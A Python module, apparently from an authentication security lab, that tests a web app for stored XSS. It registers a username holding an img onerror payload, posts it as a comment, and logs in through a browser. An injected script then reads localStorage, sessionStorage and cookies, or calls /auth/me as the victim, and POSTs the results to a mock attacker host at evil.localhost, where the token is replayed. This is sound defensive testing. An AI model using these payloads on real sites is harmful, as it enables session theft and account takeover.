"""Get a script into a page, and see what it gets: the user's token, or what only the user may ask for."""

import asyncio
import re
import time
from dataclasses import dataclass

from authlab.browser import Browser
from authlab.insecure.comments import attacker
from authlab.redteam.attack import Attack
from authlab.redteam.evidence import Evidence, Stuck, public
from authlab.redteam.target import Target, access_token, new_password
from authlab.server import Server

_STEAL = """const kept = { ...localStorage, ...sessionStorage, cookies: document.cookie };
const got = JSON.stringify(kept);"""
# As a page's own script does it: a token from a store is added, a cookie goes along by itself.
_RIDE = """const token = localStorage.auth_token ?? sessionStorage.auth_token;
const headers = token ? { Authorization: `Bearer ${token}` } : {};
const got = await (await fetch("/auth/me", { headers })).text();"""
_SEND = 'fetch(new URL("/loot", import.meta.url), { method: "POST", mode: "no-cors", body: got });'
_TOKEN = re.compile(r"[\w.~+/-]{16,}")
_INJECT = "markup => document.body.insertAdjacentHTML('beforeend', markup)"


@dataclass(frozen=True)
class _Visit:
    """What came of a user's visit: `loot` is what arrived at the attacker's, `said` the console's lines.

    `helped` where text of a user did not become markup by itself, and a hole had to be made for it.
    """

    name: str
    loot: list[str]
    said: list[str]
    helped: bool

    def alive(self, got: str, response: str) -> Evidence:
        by = "markup in the page, which no policy stops" if self.helped else "text that a user has written"
        return Evidence("alive", f"by {by}, {got}", self.name, public([response])[:200])

    def dead(self) -> Evidence:
        seen = "text stays text, and markup in the page runs no script"
        response = public([*self.loot, *self.said])[:200]
        return Evidence("dead", "a script ran, and got nothing" if self.loot else seen, self.name, response)


def _visit(target: Target, script: str) -> _Visit:
    """Register a name that is markup, post it too, and log in as that user by the page. Raises `Stuck`."""
    loot: list[str] = []
    with Server(attacker(loot, script + _SEND), name="an attacker") as evil:
        home = evil.at("evil.localhost").removeprefix("http:")
        name = f"<img src=x onerror=import('{home}/x.js')>"  # a name has 64 characters at most
        user = {"username": name, "password": new_password()}
        if (answer := target.ask("/auth/register", json=user)).status_code != 201:
            raise Stuck(f"no user could be registered: {answer.status_code}", answer)
        token = access_token(target.log_in(*user.values()))
        target.ask("/comments", token=token, data={"text": name})  # where there are any

        async def log_in(browser: Browser) -> tuple[list[str], bool]:
            tab = await browser.open(target.url)
            if not tab.url.startswith(f"{target.url}/"):
                raise Stuck("its page leads elsewhere, where nobody has allowed an attack")
            if not await tab.page.locator("#username").count():
                raise Stuck("there is no page to log in by")
            await tab.fill(**user)
            await tab.click("submit")
            loot.clear()  # what arrived so far came from somebody who was not logged in
            await tab.reload()
            if helped := not await _arrived(loot, evil):
                await tab.evaluate(_INJECT, name)
                await tab.rest()
                await _arrived(loot, evil)
            return tab.console, helped

        said, helped = target.browse(log_in)
    return _Visit(name, loot, said, helped)


async def _arrived(loot: list[str], evil: Server) -> bool:
    """Tell whether anything arrived; wait for it where the script was fetched, and so may run."""
    deadline = time.monotonic() + 3
    while not loot and time.monotonic() < deadline and any(row[1] == "/x.js" for row in evil.exchanges.rows):
        await asyncio.sleep(0.02)
    return bool(loot)


def theft(target: Target) -> Evidence:
    """Send whatever the page keeps to the attacker, who shows it at /auth/me."""
    visit = _visit(target, _STEAL)
    for token in _TOKEN.findall("\n".join(visit.loot)):
        if (answer := target.ask("/auth/me", token=token)).status_code == 200:
            return visit.alive("the user's token is with the attacker, and believed", answer.text)
    return visit.dead()


def riding(target: Target) -> Evidence:
    """Ask /auth/me from inside the page, as the user, and send the answer to the attacker."""
    visit = _visit(target, _RIDE)
    for answer in visit.loot:
        if visit.name in answer:
            return visit.alive("a script asks as the user, and the attacker reads the answer", answer)
    return visit.dead()


ATTACKS = (
    Attack("XSS theft", "16", theft,
           "Whatever a page's script can read, a stranger's script in that page can read and send home."),
    Attack("XSS riding", "16", riding,
           "A script in the page acts as its user: a token that it cannot read goes along all the same."),
)  # fmt: skip
